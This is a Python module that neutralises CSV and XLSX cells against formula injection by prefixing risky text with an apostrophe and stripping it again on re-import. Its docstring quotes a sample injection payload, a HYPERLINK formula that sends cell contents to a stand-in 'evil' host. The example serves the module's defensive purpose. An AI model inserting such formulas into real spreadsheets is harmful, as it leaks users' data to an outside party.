"""Cells for spreadsheets: every CSV and XLSX the product writes goes through `safe_cell`.

A spreadsheet treats a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula (OWASP, "CSV Injection"), so a survey title like `=HYPERLINK("http://evil/?"&A1)` would
run when a coordinator opens the export. Such text is written with a leading apostrophe, which
every spreadsheet shows as plain text. Numbers, dates and empty cells are left alone, so a
negative number stays a number.

The directory import reads its own export back (a lossless round trip), so it removes the
apostrophe again with `unneutralise`.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: object) -> object:
    """The value as it should go into a CSV or XLSX cell: text a spreadsheet would run as a
    formula gets a leading apostrophe; everything else is returned unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def unneutralise(text: str) -> str:
    """Undo `safe_cell` on text read back from one of our exports."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        return text[1:]
    return text
